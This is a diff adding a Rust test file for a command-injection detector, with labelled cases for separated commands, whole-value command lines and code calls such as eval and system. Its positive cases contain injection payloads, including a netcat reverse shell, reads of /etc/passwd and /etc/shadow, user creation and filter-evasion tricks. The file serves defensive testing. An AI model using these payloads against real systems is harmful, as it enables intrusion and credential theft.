@@ -1,0 +1,133 @@
+use proptest::prelude::*;
+
+use super::*;
+use crate::detect::confirm::testing::{body, query};
+
+#[track_caller]
+fn check(confirm: crate::detect::confirm::Confirm, cases: &[(&str, bool)]) {
+    for (text, expected) in cases {
+        assert_eq!(confirm(&query(text)).is_some(), *expected, "{text}");
+    }
+}
+
+#[test]
+fn commands_are_found_behind_separators() {
+    check(
+        separated_command,
+        &[
+            ("; cat /srv/secret", true),
+            ("10.0.0.1;id", true),
+            ("10.0.0.1 && whoami", true),
+            ("x|/usr/bin/id", true),
+            ("|id", true),
+            ("\" || sleep 10 #", true),
+            ("\nping -c 3 10.0.0.1\n", true),
+            ("`id`", true),
+            ("$(whoami)", true),
+            ("x;FOO=1 nc -e /bin/sh 10.0.0.1 4444", true),
+            ("& type C:\\secret.txt", true),
+            ("&& net user guest", true),
+            ("|powershell -enc AAAA", true),
+            ("; echo x > /tmp/y", true),
+            ("R&D; id card", false),
+            ("cats; dogs; birds", false),
+            ("a && b", false),
+            ("Tom & sh", false),
+            ("sort=name|id|date", false),
+            ("| id | name | type |", false),
+            ("run `ls -la` first, then go on", false),
+            ("cat food & dog food; which is cheaper", false),
+            ("X11; Linux x86_64; rv:1", false),
+            ("https://example.com/?q=x&type=pin&sort=all", false),
+            ("bread & more; less sugar", false),
+            ("text/html;q=0.9", false),
+            ("find love; date me", false),
+        ],
+    );
+}
+
+#[test]
+fn disguises_come_off() {
+    check(
+        separated_command,
+        &[
+            (";/???/c?t /???/p?ss??", true),
+            ("|c'a't /srv/x", true),
+            ("|w\\ho\\ami", true),
+            (";who$@ami", true),
+            (";cat${IFS}/srv/x", true),
+            (";{curl,http://elsewhere.example/x}", true),
+            (";${PATH:0:1}bin${PATH:0:1}id", true),
+            ("& w^ho^ami", true),
+            (";$IFS'i'd", true),
+            (";ca$u /et$u{}c/pas$@swd", true),
+            ("|who's there", false),
+            ("; what? /why", false),
+            (";{a,b}", false),
+            ("'a','b';'c'", false),
+            ("; ${name} and ${date}", false),
+        ],
+    );
+}
+
+#[test]
+fn whole_values_can_be_command_lines() {
+    check(
+        whole_command,
+        &[
+            ("cat /etc/passwd", true),
+            ("ls -la /srv", true),
+            ("cat${IFS}/srv/x", true),
+            ("net user guest secret /add", true),
+            ("nc -lvp 4444 -e /bin/sh", true),
+            ("/usr/bin/id", true),
+            ("bash -c 'id'", true),
+            ("python -c 'print(1)'", true),
+            ("powershell -nop -c x", true),
+            ("ls swap camaro", false),
+            ("wget alternatives", false),
+            ("sleep (8 hours) benefits", false),
+            ("echo dot 5", false),
+            ("cat food", false),
+            ("Type /k/ nicely", false),
+            ("id", false),
+            ("python 3.12 release notes", false),
+        ],
+    );
+}
+
+#[test]
+fn prose_needs_a_lethal_target() {
+    let filler = "the quick brown fox jumps over the lazy dog ".repeat(6);
+    assert!(separated_command(&body(&format!("{filler}; ls -la"))).is_none());
+    assert!(separated_command(&body(&format!("{filler}; cat /etc/shadow"))).is_some());
+}
+
+#[test]
+fn calls_hand_commands_over() {
+    check(
+        call_with_command,
+        &[
+            ("system('id')", true),
+            ("; exec(\"cat /srv/x\");", true),
+            ("assert($_GET['x'])", true),
+            ("eval(base64_decode('aWQ='))", true),
+            ("require('child_process').exec('id')", true),
+            ("/x/.exec('banana')", false),
+            ("the system (id) is", false),
+            ("retrieval('id')", false),
+            ("system(name)", false),
+        ],
+    );
+}
+
+proptest! {
+    #[test]
+    fn any_text_is_read_without_panic(text in "(;|\\||&|`|\\$|\\{|\\}|'|\"|\\\\|id|cat|/bin/|IFS|\\PC|[\\x00-\\x20]){0,80}") {
+        for confirm in [separated_command, whole_command, call_with_command] {
+            if let Some(found) = confirm(&query(&text)) {
+                prop_assert!(found.start <= found.end && found.end <= text.len());
+            }
+        }
+    }
+}
